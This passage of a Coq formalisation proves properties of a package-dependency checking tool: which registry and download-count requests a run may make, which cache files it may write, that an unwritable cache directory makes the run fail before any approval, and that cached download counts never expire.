  stays R m → (∀ err, stays R (handler err)) → stays R (try_catch m handler).
Proof.
  intros Hm Hh w r w'. rewrite try_catch_run.
  destruct (m w) as [[a|err|code] w1] eqn:Hrun.
  - intros [= <- <-]. by eapply Hm.
  - intros Hrest. destruct (Hm _ _ _ Hrun) as [H1 _].
    destruct (Hh err _ _ _ Hrest) as [H2 Hne]. split; [by etrans|done].
  - destruct (Hm _ _ _ Hrun) as [_ Hne]. by destruct (Hne code).
Qed.

Lemma stays_forM {A S : Type} (body : A → S → M S) (xs : list A) :
  (∀ x, x ∈ xs → ∀ st, stays R (body x st)) → ∀ st, stays R (forM body xs st).
Proof.
  induction xs as [|x xs IH]; intros Hbody st; simpl.
  - apply stays_ret.
  - apply stays_bind; [apply Hbody; left|].
    intros st'. apply IH. intros y Hy. apply Hbody. by right.
Qed.
End stays.

(** The loop of [processRepo], with what it may do to the world: [R]
    accepts a request about a package of [names], and the writes below
    [cacheDir] when they can happen. *)
Section stays_run.
Variable satisfies : string → string → bool.
Variable basename : string → string.
Variable getTime : string → option Z.
Variable env : Env.
Variable drev : DownloadsRevision.
Variable config : Config.
Context (R : World → World → Prop) `{!PreOrder R}.
Variable names : string → Prop.
Hypothesis R_registry : ∀ n w, names n → R w (logRequest (registryUrl n) w).
Hypothesis R_downloads : ∀ n w, names n → R w (logRequest (downloadsUrl n) w).
Hypothesis R_record :
  opt_cache env = true → cacheDirWritable env = true →
  ∀ n f w, R w (setRegistryCacheFile n f w).

Lemma stays_fetchJson_registry n : names n → stays R (fetchJson env (registryUrl n)).
Proof.
  intros Hn w r w'. unfold fetchJson.
  repeat case_match; intros [= <- <-]; split; by try apply R_registry.
Qed.

Lemma stays_writeRegistryCacheFile n f :
  opt_cache env = true → stays R (writeRegistryCacheFile env n f).
Proof.
  intros Hcache w r w'. unfold writeRegistryCacheFile.
  destruct (cacheDirWritable env) eqn:Hw; intros [= <- <-]; split;
    by try apply R_record.
Qed.

Lemma stays_cacheRegistry n version : names n → stays R (cacheRegistry env n version).
Proof.
  intros Hn w r w'. unfold cacheRegistry.
  destruct (cachedRecord env n version w).
  { by intros [= <- <-]. }
  revert w r w'. fold (stays (A := RegistryCacheRecord) R).
  apply stays_bind; [done|by apply stays_fetchJson_registry|]. intros json.
  pose proof (stays_writeRegistryCacheFile n) as Hwrite.
  repeat (case_match; try (by apply stays_throw)).
  - apply stays_bind; [done| |intros ?; by apply stays_ret].
    apply stays_try_catch; [done|by apply Hwrite|].
    intros ?. by apply stays_ret.
  - apply stays_bind; [done|by apply stays_ret|intros ?; by apply stays_ret].
Qed.

Lemma stays_cacheRegistryKeys n version :
  names n → stays R (cacheRegistryKeys env n version).
Proof.
  intros Hn w r w'. unfold cacheRegistryKeys.
  destruct (cachedKeys env n version w).
  { by intros [= <- <-]. }
  revert w r w'. fold (stays (A := RegistryCacheKeys) R).
  apply stays_bind; [done|by apply stays_fetchJson_registry|]. intros json.
  pose proof (stays_writeRegistryCacheFile n) as Hwrite.
  repeat (case_match; try (by apply stays_throw)).
  - apply stays_bind; [done| |intros ?; by apply stays_ret].
    apply stays_try_catch; [done|by apply Hwrite|].
    intros ?. by apply stays_ret.
  - apply stays_bind; [done|by apply stays_ret|intros ?; by apply stays_ret].
Qed.

Lemma stays_checkPackage n version :
  names n → stays R (checkPackage getTime env config n version).
Proof.
  intros Hn. unfold checkPackage.
  apply stays_try_catch; [done| |intros ?; by apply stays_ret].
  apply stays_bind; [done|by apply stays_cacheRegistry|intros ?; by apply stays_ret].
Qed.

Lemma stays_checkPackageAge minAge n version :
  names n → stays R (checkPackageAge getTime env minAge n version).
Proof.
  intros Hn. unfold checkPackageAge.
  apply stays_try_catch; [done| |intros ?; by apply stays_ret].
  apply stays_bind; [done|by apply stays_cacheRegistryKeys|intros ?; by apply stays_ret].
Qed.

Lemma stays_processLocalPackageJson dep :
  stays R (processLocalPackageJson env config dep).
Proof.
  unfold processLocalPackageJson.
  repeat case_match; by (apply stays_ret || apply stays_throw).
Qed.

Lemma stays_checkPackageDownloads n :
  names n → stays R (checkPackageDownloads env drev n).
Proof.
  intros Hn w r w' Hrun.
  pose proof (checkPackageDownloads_world env drev n w) as Hw.
  rewrite Hrun in Hw. simpl in Hw. subst w'. split; [by apply R_downloads|].
  intros code ->. revert Hrun. destruct drev; unfold checkPackageDownloads.
  - rewrite mbind_run. unfold fetchBody. repeat case_match; done.
  - rewrite try_catch_run, mbind_run. unfold fetchJson. repeat case_match; done.
Qed.

Lemma recordDownloads_no_exit irev threshold name downloads st code :
  recordDownloads irev threshold name downloads st ≠ Exit code.
Proof. unfold recordDownloads. by repeat case_match. Qed.

Lemma stays_lookupDownloads n st :
  names n → stays R (lookupDownloads env drev n st).
Proof.
  intros Hn. unfold lookupDownloads.
  repeat case_match; try (by apply stays_ret);
    (apply stays_bind; [done|by apply stays_checkPackageDownloads|]);
    intros ?; by apply stays_ret.
Qed.

Lemma stays_downloadCheck irev dep st :
  names (d_name dep) → stays R (downloadCheck env irev drev config dep st).
Proof.
  intros Hn. unfold downloadCheck.
  destruct (enableDownloadCheck config); [|by apply stays_ret].
  case_match; [by apply stays_ret|].
  apply stays_bind; [done|by apply stays_lookupDownloads|].
  intros downloads. apply stays_liftResult; [done|].
  intros code. apply recordDownloads_no_exit.
Qed.

Lemma stays_checkDependency irev dep st :
  names (d_name dep) → stays R (checkDependency getTime env irev drev config dep st).
Proof.
  intros Hn. unfold checkDependency. destruct irev.
  - apply stays_bind; [done|by apply stays_checkPackage|].
    intros p. by apply stays_downloadCheck.
  - apply stays_bind; [done|apply stays_processLocalPackageJson|]. intros p.
    apply stays_bind; [done| |intros ?; by apply stays_downloadCheck].
    repeat case_match; try (by apply stays_ret).
    apply stays_bind; [done|by apply stays_checkPackageAge|].
    intros [found|]; by apply stays_ret.
Qed.

Lemma stays_checkAll irev deps st :
  (∀ dep, dep ∈ deps → names (d_name dep)) →
  stays R (checkAll getTime env irev drev config deps st).
Proof.
  intros Hnames w r w'. rewrite checkAll_flat. revert w r w'.
  fold (stays (A := Collected) R).
  apply stays_forM; [done|]. intros dep Hdep st'.
  apply stays_checkDependency. by apply Hnames.
Qed.
End stays_run.

Global Instance sameCacheFiles_preorder : PreOrder sameCacheFiles.
Proof.
  split.
  - by intros w.
  - intros w1 w2 w3. unfold sameCacheFiles. congruence.
Qed.

Global Instance anyWorld_preorder : PreOrder anyWorld.
Proof. by split. Qed.

Global Instance asksAbout_preorder (names : string → Prop) : PreOrder (asksAbout names).
Proof.
  split.
  - intros w. exists []. by rewrite app_nil_r.
  - intros w1 w2 w3 (more1 & H1 & HP1) (more2 & H2 & HP2).
    exists (more1 ++ more2). rewrite H2, H1, app_assoc. split; [done|].
    by apply Forall_app.
Qed.

Lemma lockfileLoop_no_exit satisfies basename rev config entries deps code :
  lockfileLoop satisfies basename rev config entries deps ≠ Exit code.
Proof.
  revert deps. induction entries as [|[p s] entries IH]; intros deps; [done|].
  destruct (skippedEntry rev p s) eqn:Hskip.
  - rewrite loop_skipped by done. apply IH.
  - rewrite loop_unskipped by done. repeat case_match; try done; apply IH.
Qed.

Lemma readInstalled_no_exit satisfies basename rev config dir code :
  readInstalledPackagesFromLockfile satisfies basename rev config dir ≠ Exit code.
Proof.
  unfold readInstalledPackagesFromLockfile.
  destruct (packageLockJson dir) as [packages|]; [|by repeat case_match].
  pose proof (lockfileLoop_no_exit satisfies basename rev config packages []) as Hloop.
  destruct (lockfileLoop _ _ _ _ _ _); [done..|]. intros [= <-]. by eapply Hloop.
Qed.

Section stays_repo.
Variable satisfies : string → string → bool.
Variable basename : string → string.
Variable getTime : string → option Z.
Variable env : Env.
Variable irev : IndexRevision.
Variable drev : DownloadsRevision.
Variable config : Config.
Variable dir : RepoDir.
Context (R : World → World → Prop) `{!PreOrder R}.
Variable names : string → Prop.
Hypothesis R_registry : ∀ n w, names n → R w (logRequest (registryUrl n) w).
Hypothesis R_downloads : ∀ n w, names n → R w (logRequest (downloadsUrl n) w).
Hypothesis R_record :
  opt_cache env = true → cacheDirWritable env = true →
  ∀ n f w, R w (setRegistryCacheFile n f w).
Hypothesis R_counts :
  opt_cache env = true → cacheDirWritable env = true →
  ∀ cache w, R w (setPackageDownloadsJson cache w).
Hypothesis R_prompt : ∀ w, R w (countPrompt w).
Hypothesis R_lock : ∀ doc w, R w (setPackagePolicyLock doc w).
Hypothesis names_installed :
  ∀ deps dep,
    readInstalledPackagesFromLockfile satisfies basename irev config dir = Ok deps →
    dep ∈ deps → names (d_name dep).

Lemma stays_collectWarnings :
  stays R (collectWarnings satisfies basename getTime env irev drev config dir).
Proof.
  unfold collectWarnings.
  apply stays_bind; [done| |intros cacheData].
  { intros w r w'. unfold readWarningsFromLockfile.
    repeat case_match; by intros [= <- <-]. }
  intros w r w'. rewrite mbind_run. unfold liftResult.
  destruct (readInstalledPackagesFromLockfile satisfies basename irev config dir)
    as [deps|err|code] eqn:Hdeps.
  2: { by intros [= <- <-]. }
  2: { by destruct (readInstalled_no_exit satisfies basename irev config dir code). }
  revert w r w'.
  fold (stays (A := list Approval * Collected) R).
  apply stays_bind; [done| |intros cache].
  { intros w r w'. unfold getPackageDownloadCache.
    repeat case_match; by intros [= <- <-]. }
  apply stays_bind; [done| |intros st; by apply stays_ret].
  apply (stays_checkAll getTime env drev config R names); try done.
  intros dep Hdep. by eapply names_installed.
Qed.

Lemma stays_saveCounts st : stays R (saveCounts env config st).
Proof.
  unfold saveCounts.
  destruct (opt_cache env) eqn:Hcache; [|by apply stays_ret].
  simpl. case_match; [|by apply stays_ret].
  intros w r w'. unfold savePackageDownloadCache.
  destruct (cacheDirWritable env) eqn:Hw; intros [= <- <-]; split;
    by try apply R_counts.
Qed.

Lemma stays_collectAndReconcile :
  stays R (collectAndReconcile satisfies basename getTime env irev drev config dir).
Proof.
  unfold collectAndReconcile.
  apply stays_bind; [done|apply stays_collectWarnings|]. intros collected. cbv zeta.
  apply stays_bind; [done|apply stays_saveCounts|]. intros _. by apply stays_ret.
Qed.

Lemma processRepo_related w r w' :
  processRepo satisfies basename getTime env irev drev config dir w = (r, w') → R w w'.
Proof.
  unfold processRepo. rewrite mbind_run.
  destruct (collectAndReconcile _ _ _ _ _ _ _ _ w) as [[reconciled|err|code] w1] eqn:Hrun.
  - destruct (stays_collectAndReconcile _ _ _ Hrun) as [H1 _].
    unfold approveOrFail. repeat case_match.
    + by intros [= <- <-].
    + unfold exit. by intros [= <- <-].
    + rewrite mbind_run. unfold read, writePolicyLock.
      repeat case_match; simplify_eq; intros [= <- <-]; etrans; try exact H1;
        (etrans; [apply R_prompt|]); by try apply R_lock.
  - intros [= <- <-]. by eapply stays_collectAndReconcile.
  - intros [= <- <-]. by eapply stays_collectAndReconcile.
Qed.
End stays_repo.

(** ** The stages of a run *)

Section stages.
Variable satisfies : string → string → bool.
Variable basename : string → string.
Variable getTime : string → option Z.
Variable env : Env.
Variable irev : IndexRevision.
Variable drev : DownloadsRevision.
Variable config : Config.
Variable dir : RepoDir.

(** Reading the files changes nothing. *)
Lemma readWarningsFromLockfile_world w :
  (readWarningsFromLockfile w).2 = w ∧ ∀ code, (readWarningsFromLockfile w).1 ≠ Exit code.
Proof. unfold readWarningsFromLockfile. by repeat case_match. Qed.

Lemma getPackageDownloadCache_world w :
  (getPackageDownloadCache w).2 = w
  ∧ (∀ code, (getPackageDownloadCache w).1 ≠ Exit code)
  ∧ ∀ cache, (getPackageDownloadCache w).1 = Ok cache → kind cache = PlainObject.
Proof.
  unfold getPackageDownloadCache.
  repeat case_match; (split; [done|]); (split; [done|]); by intros ? [= <-].
Qed.

(** A loop that completes: what was read before it. *)
Lemma collectWarnings_Ok w cacheData st w1 :
  collectWarnings satisfies basename getTime env irev drev config dir w
    = (Ok (cacheData, st), w1) →
  ∃ deps cache,
    readWarningsFromLockfile w = (Ok cacheData, w)
    ∧ readInstalledPackagesFromLockfile satisfies basename irev config dir = Ok deps
    ∧ (if opt_cache env then getPackageDownloadCache else mret emptyArray) w
      = (Ok cache, w)
    ∧ kind cache = (if opt_cache env then PlainObject else ArrayObject)
    ∧ checkAll getTime env irev drev config deps
        {| warnings := []; packageDownloadCache := cache; checkedPackageDownloads := ∅ |} w
      = (Ok st, w1).
Proof.
  unfold collectWarnings. rewrite mbind_run.
  destruct (readWarningsFromLockfile_world w) as [Hw0 _].
  destruct (readWarningsFromLockfile w) as [[cacheData0| |] w0]; [|done..].
  simpl in Hw0. subst w0. rewrite mbind_run. unfold liftResult.
  destruct (readInstalledPackagesFromLockfile satisfies basename irev config dir)
    as [deps| |]; [|done..].
  rewrite mbind_run.
  assert (Hcache : ∀ r w0,
    (if opt_cache env then getPackageDownloadCache else mret emptyArray) w = (r, w0) →
    w0 = w
    ∧ ∀ cache, r = Ok cache →
        kind cache = (if opt_cache env then PlainObject else ArrayObject)).
  { intros r w0. destruct (opt_cache env).
    - destruct (getPackageDownloadCache_world w) as (Hw & _ & Hkind).
      intros Hrun. rewrite Hrun in Hw, Hkind. simpl in Hw, Hkind. by split.
    - rewrite mret_run. intros [= <- <-]. split; [done|]. by intros ? [= <-]. }
  destruct ((if opt_cache env then getPackageDownloadCache else mret emptyArray) w)
    as [[cache| |] w0] eqn:Hget; [|done..].
  destruct (Hcache _ _ eq_refl) as [-> Hkind]. rewrite mbind_run.
  destruct (checkAll getTime env irev drev config deps _ w) as [[st0| |] w2] eqn:Hall;
    [|done..].
  rewrite mret_run. intros [= <- <- <-]. exists deps, cache.
  rewrite (Hkind _ eq_refl). done.
Qed.

(** A run that gets as far as the decision. *)
Lemma collectAndReconcile_Ok w reconciled w' :
  collectAndReconcile satisfies basename getTime env irev drev config dir w
    = (Ok reconciled, w') →
  ∃ cacheData st w1,
    collectWarnings satisfies basename getTime env irev drev config dir w
      = (Ok (cacheData, st), w1)
    ∧ reconciled = reconcile cacheData (warnings st)
    ∧ saveCounts env config st w1 = (Ok tt, w').
Proof.
  unfold collectAndReconcile. rewrite mbind_run.
  destruct (collectWarnings satisfies basename getTime env irev drev config dir w)
    as [[[cacheData st]| |] w1]; [|done..].
  cbn [fst snd]. rewrite mbind_run.
  destruct (saveCounts env config st w1) as [[[]| |] w2] eqn:Hsave; [|done..].
  rewrite mret_run. intros [= <- <-]. by exists cacheData, st, w1.
Qed.
End stages.

(** ** What a run leaves alone *)

Section run_frame.
Variable satisfies : string → string → bool.
Variable basename : string → string.
Variable getTime : string → option Z.
Variable env : Env.
Variable irev : IndexRevision.
Variable drev : DownloadsRevision.
Variable config : Config.
Variable dir : RepoDir.

(** X11.  With [--cache] off, [processRepo] neither creates nor changes a file
    of the cache directory, however it ends. *)
Theorem cache_option_off_keeps_cache_files w :
  opt_cache env = false →
  cacheFiles (processRepo satisfies basename getTime env irev drev config dir w).2
  = cacheFiles w.
Proof.
  intros Hoff.
  destruct (processRepo satisfies basename getTime env irev drev config dir w)
    as [r w'] eqn:Hrun.
  apply (processRepo_related satisfies basename getTime env irev drev config dir
           sameCacheFiles (λ _, True)) in Hrun; try done.
  all: rewrite Hoff; done.
Qed.

(** X12.  Whatever [processRepo] requests is the registry document or the
    download count of a package the extractor returned. *)
Theorem requests_are_about_installed_packages w :
  ∃ more,
    fetched (processRepo satisfies basename getTime env irev drev config dir w).2
    = fetched w ++ more
    ∧ ∀ url, url ∈ more →
        ∃ deps dep,
          readInstalledPackagesFromLockfile satisfies basename irev config dir = Ok deps
          ∧ dep ∈ deps
          ∧ (url = registryUrl (d_name dep) ∨ url = downloadsUrl (d_name dep)).
Proof.
  destruct (processRepo satisfies basename getTime env irev drev config dir w)
    as [r w'] eqn:Hrun.
  set (names := λ n, ∃ deps dep,
         readInstalledPackagesFromLockfile satisfies basename irev config dir = Ok deps
         ∧ dep ∈ deps ∧ d_name dep = n).
  cut (asksAbout names w w').
  { intros (more & Hw & Hmore). exists more. split; [done|].
    intros url Hurl. rewrite Forall_forall in Hmore.
    destruct (Hmore url Hurl) as (n & (deps & dep & Hdeps & Hdep & <-) & Hn).
    by exists deps, dep. }
  eapply (processRepo_related satisfies basename getTime env irev drev config dir
            (asksAbout names) names); [..|exact Hrun].
  - intros n w0 Hn. exists [registryUrl n]. split; [done|].
    constructor; [|constructor]. exists n. split; [done|by left].
  - intros n w0 Hn. exists [downloadsUrl n]. split; [done|].
    constructor; [|constructor]. exists n. split; [done|by right].
  - intros _ _ n f w0. exists []. by rewrite app_nil_r.
  - intros _ _ cache w0. exists []. by rewrite app_nil_r.
  - intros w0. exists []. by rewrite app_nil_r.
  - intros doc w0. exists []. by rewrite app_nil_r.
  - intros deps dep Hdeps Hdep. by exists deps, dep.
Qed.

(** X13.  The popularity cache is saved without a [try]: when caching and
    the popularity check are on and the cache directory cannot be written,
    [processRepo] always ends with an exception, before the decision: nothing
    is asked and the approval record is not written. *)
Theorem unwritable_cache_dir_fails_the_run w :
  opt_cache env = true →
  cacheDirWritable env = false →
  is_Some (enableDownloadCheck config) →
  ∃ err w',
    processRepo satisfies basename getTime env irev drev config dir w = (Throw err, w')
    ∧ packagePolicyLock w' = packagePolicyLock w
    ∧ prompts w' = prompts w.
Proof.
  intros Hcache Hro Hen.
  assert (Hcollect : ∃ err w',
    collectAndReconcile satisfies basename getTime env irev drev config dir w
    = (Throw err, w')).
  { destruct (collectAndReconcile satisfies basename getTime env irev drev config dir w)
      as [r w'] eqn:Hrun.
    cut (∃ err, r = Throw err). { intros [err ->]. by eexists _, _. }
    revert Hrun. unfold collectAndReconcile. rewrite mbind_run.
    destruct (collectWarnings satisfies basename getTime env irev drev config dir w)
      as [[collected|err|code] w1] eqn:Hall.
    2: { intros [= <- <-]. by eexists. }
    2: { apply (stays_collectWarnings satisfies basename getTime env irev drev config
                  dir anyWorld (λ _, True)) in Hall; try done.
         destruct Hall as [_ Hne]. by destruct (Hne code). }
    rewrite mbind_run. unfold saveCounts. rewrite Hcache. simpl.
    rewrite bool_decide_eq_true_2 by done.
    unfold savePackageDownloadCache. rewrite Hro. intros [= <- <-]. by eexists. }
  destruct Hcollect as (err & w' & Hcollect). exists err, w'.
  destruct (quiet_collectAndReconcile satisfies basename getTime env irev drev config
              dir _ _ _ Hcollect) as [Hlock Hprompts].
  split; [|done]. unfold processRepo. by rewrite mbind_run, Hcollect.
Qed.
End run_frame.

(** ** The popularity cache over a run *)

Section counts.
Variable satisfies : string → string → bool.
Variable basename : string → string.
Variable getTime : string → option Z.
Variable env : Env.
Variable irev : IndexRevision.
Variable drev : DownloadsRevision.
Variable config : Config.

(** What the popularity block does to a cache that is no array. *)
Lemma downloadCheck_cache dep st w st' w' :
  kind (packageDownloadCache st) = PlainObject →
  downloadCheck env irev drev config dep st w = (Ok st', w') →
  kind (packageDownloadCache st') = PlainObject
  ∧ (own (packageDownloadCache st') = own (packageDownloadCache st)
     ∨ ∃ downloads,
         lookupDownloads env drev (d_name dep) st w = (Ok (Count downloads), w')
         ∧ own (packageDownloadCache st')
           = <[d_name dep := downloads]> (own (packageDownloadCache st))).
Proof.
  intros Hkind.
  destruct (enableDownloadCheck config) as [threshold|] eqn:Hen.
  2: { unfold downloadCheck. rewrite Hen, mret_run. intros [= <- <-]. split; [done|by left]. }
  destruct (decide (d_name dep ∈ checkedPackageDownloads st)) as [Hin|Hnew].
  { unfold downloadCheck. rewrite Hen, bool_decide_eq_true_2, mret_run by done.
    intros [= <- <-]. split; [done|by left]. }
  rewrite (downloadCheck_enabled _ _ _ _ _ _ _ _ Hen Hnew).
  destruct (lookupDownloads env drev (d_name dep) st w) as [[downloads| |] w1] eqn:Hlook;
    [|done..].
  unfold recordDownloads. destruct (notSentinel downloads).
  2: { intros [= <- <-]. split; [done|by left]. }
  destruct (setProperty_plain _ (d_name dep) downloads Hkind) as (obj' & -> & Hkind' & Hown).
  intros [= <- <-]. cbn [packageDownloadCache]. split; [done|]. rewrite Hown.
  destruct downloads as [n|v]; [right; by exists n|by left].
Qed.

Lemma checkDependency_cache dep st w st' w' :
  checkDependency getTime env irev drev config dep st w = (Ok st', w') →
  ∃ p w1,
    downloadCheck env irev drev config dep (pushWarnings p st) w1 = (Ok st', w').
Proof.
  cut (∀ r, r = irev →
         checkDependency getTime env r drev config dep st w = (Ok st', w') →
         ∃ p w1,
           downloadCheck env irev drev config dep (pushWarnings p st) w1 = (Ok st', w'));
    [by eauto|].
  intros r Hr. unfold checkDependency. destruct r; cbv iota; rewrite Hr.
  - rewrite mbind_run.
    destruct (checkPackage getTime env config (d_name dep) (d_version dep) w)
      as [[p| |] w1]; [|done..].
    intros Hrun. by exists p, w1.
  - rewrite mbind_run.
    destruct (processLocalPackageJson env config dep w) as [[p| |] w1]; [|done..].
    rewrite mbind_run.
    destruct (c_minPackageAge config) as [minAge|].
    2: { rewrite mret_run. intros Hrun. by exists p, w1. }
    destruct (0 <? minAge)%Z.
    2: { rewrite mret_run. intros Hrun. by exists p, w1. }
    rewrite mbind_run.
    destruct (checkPackageAge getTime env minAge (d_name dep) (d_version dep) w1)
      as [[[found|]| |] w2]; [| |done..]; rewrite mret_run; intros Hrun.
    + exists (p ++ [found]), w2.
      unfold pushWarnings in *. cbn [warnings packageDownloadCache checkedPackageDownloads] in *.
      by rewrite app_assoc.
    + by exists p, w2.
Qed.

Lemma checkAll_keeps_counts (cache0 : gmap string Z) deps st w st' w' :
  kind (packageDownloadCache st) = PlainObject →
  (∀ n count, cache0 !! n = Some count → count ≠ 0%Z →
     own (packageDownloadCache st) !! n = Some count) →
  checkAll getTime env irev drev config deps st w = (Ok st', w') →
  ∀ n count, cache0 !! n = Some count → count ≠ 0%Z →
    own (packageDownloadCache st') !! n = Some count.
Proof.
  rewrite checkAll_flat. intros Hkind Hst Hrun.
  cut (kind (packageDownloadCache st') = PlainObject
       ∧ ∀ n count, cache0 !! n = Some count → count ≠ 0%Z →
           own (packageDownloadCache st') !! n = Some count); [by intros [_ ?]|].
  revert Hrun.
  apply (forM_invariant
           (λ st, kind (packageDownloadCache st) = PlainObject
                  ∧ ∀ n count, cache0 !! n = Some count → count ≠ 0%Z →
                      own (packageDownloadCache st) !! n = Some count)); [|done].
  clear. intros dep st w st' w' [Hkind Hst] (p & w1 & Hrun)%checkDependency_cache.
  apply downloadCheck_cache in Hrun as [Hkind' Hown]; [|done].
  split; [done|]. intros n count Hn Hnz. specialize (Hst n count Hn Hnz).
  destruct Hown as [->|(downloads & Hlook & ->)]; [done|].
  cbn [pushWarnings packageDownloadCache] in *.
  destruct (decide (d_name dep = n)) as [<-|Hne]; [|by rewrite lookup_insert_ne].
  rewrite lookup_insert_eq.
  rewrite (lookupDownloads_cached env drev _ _ _ count) in Hlook by done. congruence.
Qed.

(** X14.  The popularity cache has no expiry: when the run saves it, every
    count other than [0] that the file held before is still there,
    unchanged, whether or not the package is still installed. *)
Theorem cached_counts_never_expire dir w prior reconciled w' :
  opt_cache env = true →
  is_Some (enableDownloadCheck config) →
  packageDownloadsJson w = Some (DownloadsJson prior) →
  collectAndReconcile satisfies basename getTime env irev drev config dir w
    = (Ok reconciled, w') →
  ∃ saved,
    packageDownloadsJson w' = Some (DownloadsJson saved)
    ∧ ∀ n count, prior !! n = Some count → count ≠ 0%Z → saved !! n = Some count.
Proof.
  intros Hcache Hen Hprior. unfold collectAndReconcile, collectWarnings.
  rewrite !mbind_run.
  destruct (readWarningsFromLockfile w) as [[cacheData| |] w0] eqn:Hread; [|done..].
  assert (w0 = w) as ->.
  { revert Hread. unfold readWarningsFromLockfile. repeat case_match; by intros [= <-]. }
  rewrite mbind_run. unfold liftResult.
  destruct (readInstalledPackagesFromLockfile satisfies basename irev config dir)
    as [deps| |]; [|done..].
  rewrite Hcache, mbind_run. unfold getPackageDownloadCache at 1. rewrite Hprior.
  rewrite mbind_run.
  destruct (checkAll getTime env irev drev config deps _ w) as [[st| |] w1] eqn:Hall;
    [|done..].
  rewrite mret_run, mbind_run. cbn [fst snd]. unfold saveCounts. rewrite Hcache. simpl.
  rewrite bool_decide_eq_true_2 by done.
  unfold savePackageDownloadCache. destruct (cacheDirWritable env); [|done].
  rewrite mret_run. intros [= <- <-]. eexists. split; [done|].
  eapply checkAll_keeps_counts; [| |exact Hall]; done.
Qed.

(** One dependency whose registry record and download count are cached:
    nothing is requested or written, and the cache of counts is as
    before. *)
Lemma setProperty_same (obj : JsObject) (name : string) (n : Z) :
  kind obj = PlainObject → own obj !! name = Some n →
  setProperty obj name (Count n) = Some obj.
Proof.
  intros Hkind Hown. unfold setProperty. rewrite Hkind.
  destruct obj as [k o]. simpl in *. subst k. by rewrite insert_id.
Qed.

Lemma checkDependency_offline dep st w :
  opt_cache env = true →
  registryServes irev w dep →
  kind (packageDownloadCache st) = PlainObject →
  (∃ count, own (packageDownloadCache st) !! d_name dep = Some count ∧ count ≠ 0%Z) →
  ∃ r,
    checkDependency getTime env irev drev config dep st w = (r, w)
    ∧ (∀ code, r ≠ Exit code)
    ∧ ∀ st', r = Ok st' → packageDownloadCache st' = packageDownloadCache st.
Proof.
  intros Hcache Hserves Hkind (count & Hcount & Hnz).
  assert (Hdl : ∀ p, ∃ st',
    downloadCheck env irev drev config dep (pushWarnings p st) w = (Ok st', w)
    ∧ packageDownloadCache st' = packageDownloadCache st).
  { intros p. unfold downloadCheck.
    destruct (enableDownloadCheck config) as [threshold|]; [|by eexists].
    case_match; [by eexists|]. rewrite mbind_run.
    rewrite (lookupDownloads_cached env drev _ _ _ count) by done.
    unfold liftResult, recordDownloads. cbn [packageDownloadCache pushWarnings].
    destruct (notSentinel (Count count)); [|by eexists].
    rewrite (setProperty_same _ _ _ Hkind Hcount). by eexists. }
  cut (∀ r, r = irev → ∃ res,
         checkDependency getTime env r drev config dep st w = (res, w)
         ∧ (∀ code, res ≠ Exit code)
         ∧ ∀ st', res = Ok st' → packageDownloadCache st' = packageDownloadCache st);
    [by eauto|].
  intros r Hr. unfold checkDependency, registryServes in *.
  destruct r; rewrite <- Hr in Hserves; cbv iota; rewrite Hr.
  - destruct Hserves as [cache Hserves]. rewrite mbind_run.
    unfold checkPackage. rewrite try_catch_run, mbind_run. unfold cacheRegistry.
    rewrite (proj2 (cachedRecord_Some _ _ _ _ _) (conj Hcache Hserves)), !mret_run.
    destruct (Hdl (packageProblems getTime env config (d_name dep) (d_version dep) cache))
      as (st' & -> & Hst').
    eexists. split; [done|]. split; [done|]. by intros ? [= <-].
  - destruct Hserves as [cache Hserves]. rewrite mbind_run.
    unfold processLocalPackageJson.
    assert (Hage : ∀ minAge, ∃ found,
      checkPackageAge getTime env minAge (d_name dep) (d_version dep) w = (Ok found, w)).
    { intros minAge. unfold checkPackageAge. rewrite try_catch_run, mbind_run.
      unfold cacheRegistryKeys.
      rewrite (proj2 (cachedKeys_Some _ _ _ _ _) (conj Hcache Hserves)), !mret_run.
      by eexists. }
    assert (Hrest : ∀ p, ∃ st',
      ((match c_minPackageAge config with
        | Some minAge =>
            if (0 <? minAge)%Z then
              ageWarning ← checkPackageAge getTime env minAge (d_name dep) (d_version dep);
              match ageWarning with
              | Some found => mret (pushWarnings [found] (pushWarnings p st))
              | None => mret (pushWarnings p st)
              end
            else mret (pushWarnings p st)
        | None => mret (pushWarnings p st)
        end) ≫= downloadCheck env irev drev config dep) w = (Ok st', w)
      ∧ packageDownloadCache st' = packageDownloadCache st).
    { intros p. rewrite mbind_run.
      destruct (c_minPackageAge config) as [minAge|]; [|rewrite mret_run; apply Hdl].
      destruct (0 <? minAge)%Z; [|rewrite mret_run; apply Hdl].
      rewrite mbind_run. destruct (Hage minAge) as [[found|] ->]; rewrite mret_run.
      - destruct (Hdl (p ++ [found])) as (st' & Hrun & Hst'). exists st'.
        split; [|done]. rewrite <- Hrun. f_equal. unfold pushWarnings. simpl.
        by rewrite app_assoc.
      - apply Hdl. }
    destruct (nodeModules env !! d_path dep) as [[|[scripts|] found]|].
    + unfold throw. eexists. split; [done|]. by split.
    + destruct (Hrest (scriptProblems (d_name dep +:+ "@" +:+ d_version dep) scripts
                         ++ licenseProblems config (d_name dep +:+ "@" +:+ d_version dep)
                              found))
        as (st' & Hrun & Hst').
      exists (Ok st'). split; [exact Hrun|]. split; [done|]. by intros ? [= <-].
    + destruct (Hrest []) as (st' & Hrun & Hst').
      exists (Ok st'). split; [exact Hrun|]. split; [done|]. by intros ? [= <-].
    + destruct (Hrest []) as (st' & Hrun & Hst').
      exists (Ok st'). split; [exact Hrun|]. split; [done|]. by intros ? [= <-].
Qed.

Lemma checkAll_offline deps st w :
  opt_cache env = true →
  (∀ dep, dep ∈ deps → registryServes irev w dep) →
  kind (packageDownloadCache st) = PlainObject →
  (∀ dep, dep ∈ deps →
     ∃ count, own (packageDownloadCache st) !! d_name dep = Some count ∧ count ≠ 0%Z) →
  ∃ r,
    checkAll getTime env irev drev config deps st w = (r, w)
    ∧ (∀ code, r ≠ Exit code)
    ∧ ∀ st', r = Ok st' → packageDownloadCache st' = packageDownloadCache st.
Proof.
  intros Hcache. rewrite checkAll_flat. revert st.
  induction deps as [|dep deps IH]; intros st Hserves Hkind Hcounts; simpl.
  - rewrite mret_run. eexists. split; [done|]. split; [done|]. by intros ? [= <-].
  - rewrite mbind_run.
    destruct (checkDependency_offline dep st w Hcache) as (r & -> & Hne & Hst).
    { apply Hserves. left. }
    { done. }
    { apply Hcounts. left. }
    destruct r as [st1|err|code].
    + specialize (Hst st1 eq_refl).
      destruct (IH st1) as (r & -> & Hne' & Hst').
      { intros d Hd. apply Hserves. by right. }
      { by rewrite Hst. }
      { intros d Hd. rewrite Hst. apply Hcounts. by right. }
      exists r. split; [done|]. split; [done|]. intros st' ->.
      by rewrite (Hst' st' eq_refl).
    + eexists. split; [done|]. by split.
    + by destruct (Hne code).
Qed.

(** The decision touches neither the request log nor the cache files. *)
